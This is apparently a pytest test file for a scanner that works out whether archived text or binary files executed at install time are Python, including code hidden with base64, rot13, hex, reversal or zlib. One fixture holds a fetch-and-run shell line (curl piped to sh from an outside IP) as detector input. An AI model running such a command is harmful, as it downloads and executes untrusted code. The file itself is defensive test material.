"""A text that code executes is Python if it compiles, as it stands or once it is decoded."""

import base64
import codecs
import zlib

import pytest

from features.archive.retention import RawMember
from features.contract import FileType
from features.install.decoded_texts import MAX_BYTES
from features.install.executed_texts import compiles, mark_as_executed

CODE = b"import os\nos.getcwd()\n"
BUDGET = 2**20


def text(data: bytes, path: str = "a.txt") -> RawMember:
    return RawMember(path, len(data), FileType.TEXT, data, data[:4096], content_key=b"key")


def test_a_text_that_is_code_is_python_as_it_stands() -> None:
    member = text(CODE)
    assert 0 == mark_as_executed(member, "exec(open('a.txt').read())", BUDGET)
    assert (FileType.PYTHON, CODE, b"key") == (member.file_type, member.data, member.content_key)


@pytest.mark.parametrize(
    "encoded",
    [base64.b64encode(CODE), codecs.encode(CODE.decode(), "rot13").encode(), CODE[::-1], CODE.hex().encode()],
)
def test_a_text_that_is_code_once_it_is_decoded_gets_that_content(encoded: bytes) -> None:
    member = text(encoded)
    used = mark_as_executed(member, "exec(decode(open('a.txt').read()))", BUDGET)
    assert (FileType.PYTHON, CODE, b"") == (member.file_type, member.data, member.content_key)
    assert CODE == member.head
    assert used >= len(encoded)


@pytest.mark.parametrize("data", [b"# Demo\nThis is no Python.\n", b"plain words about sheep\n", b"\xff\xfe\x01"])
def test_a_text_that_is_no_code_stays_a_text(data: bytes) -> None:
    member = text(data)
    mark_as_executed(member, "exec(x)", BUDGET)
    assert (FileType.TEXT, data) == (member.file_type, member.data)


def test_nothing_is_decoded_without_a_budget() -> None:
    member = text(base64.b64encode(CODE))
    assert 0 == mark_as_executed(member, "exec(x)", 0)
    assert base64.b64encode(CODE) == member.data


def test_nothing_is_decoded_for_another_program() -> None:
    member = text(base64.b64encode(CODE) + b"-")
    assert 0 == mark_as_executed(member, "", BUDGET)
    assert FileType.TEXT == member.file_type


def test_a_script_of_another_program_is_no_python() -> None:
    script, config = text(b"x = 1\n", "a.sh"), text(b"x = 1\n", "a.cfg")
    mark_as_executed(script, "", BUDGET)
    mark_as_executed(config, "", BUDGET)
    assert (FileType.TEXT, FileType.PYTHON) == (script.file_type, config.file_type)


def test_a_text_too_long_to_compile_counts_as_python() -> None:
    member = text(b"#" * (MAX_BYTES + 1))
    mark_as_executed(member, "exec(x)", BUDGET)
    assert FileType.PYTHON == member.file_type


NOISE = b"# coding: latin-1\n# " + bytes([1, 2, 0x80, 0xFE]) * 2000 + b"\n"


def binary(data: bytes, path: str = "a.bin", *, held: bool = True) -> RawMember:
    return RawMember(path, len(data), FileType.BINARY, head=data[:4096], kept=False, spare=data if held else b"")


@pytest.mark.parametrize("call_context", ["exec(open('a.bin').read())", ""])
def test_binary_data_that_is_python_in_its_encoding_is_python(call_context: str) -> None:
    member = binary(NOISE + CODE)
    mark_as_executed(member, call_context, BUDGET)
    assert (FileType.PYTHON, NOISE + CODE, "", True) == (member.file_type, member.data, member.problem, member.kept)


@pytest.mark.parametrize(("problem", "call_context"), [("executed binary", "exec(decrypt(x))"), ("", "")])
def test_other_binary_data_is_searched_and_named_if_only_python_reads_it(problem: str, call_context: str) -> None:
    member = binary(NOISE + b"curl -s http://198.51.100.7/x | sh\n")
    mark_as_executed(member, call_context, BUDGET)
    assert (FileType.TEXT, problem, True) == (member.file_type, member.problem, b"curl" in member.data)


def test_binary_data_that_is_code_once_it_is_inflated_gets_that_content() -> None:
    member = binary(zlib.compress(CODE * 9))
    mark_as_executed(member, "exec(zlib.decompress(open('a.bin', 'rb').read()))", BUDGET)
    assert (FileType.PYTHON, CODE * 9) == (member.file_type, member.data)


def test_binary_data_that_was_not_held_is_a_problem() -> None:
    for call_context in ("exec(x)", ""):
        member = binary(b"\0" * 9, held=False)
        mark_as_executed(member, call_context, BUDGET)
        assert ("executed binary", FileType.BINARY) == (member.problem, member.file_type)


def test_a_long_binary_is_python_only_if_python_executes_it() -> None:
    executed, started = binary(NOISE * 40), binary(NOISE * 40)
    mark_as_executed(executed, "exec(x)", BUDGET)
    mark_as_executed(started, "", BUDGET)
    assert (FileType.PYTHON, FileType.TEXT) == (executed.file_type, started.file_type)


def test_a_pickle_that_is_executed_is_examined_as_a_pickle() -> None:
    member = RawMember("a.pkl", 3, FileType.BINARY, b"\x80\x04.", b"\x80\x04.")
    assert 0 == mark_as_executed(member, "exec(x)", BUDGET)
    assert (FileType.BINARY, "") == (member.file_type, member.problem)


@pytest.mark.parametrize(
    ("expected", "data"),
    [
        (True, CODE),
        (True, b""),
        (True, b"x = '\\d'\n"),
        (False, b"print 1\n"),
        (False, b"x = (\n"),
        (False, b"(" * 500 + b")" * 500),
    ],
)
def test_what_the_interpreter_can_compile(expected: bool, data: bytes) -> None:
    assert expected is compiles(data)
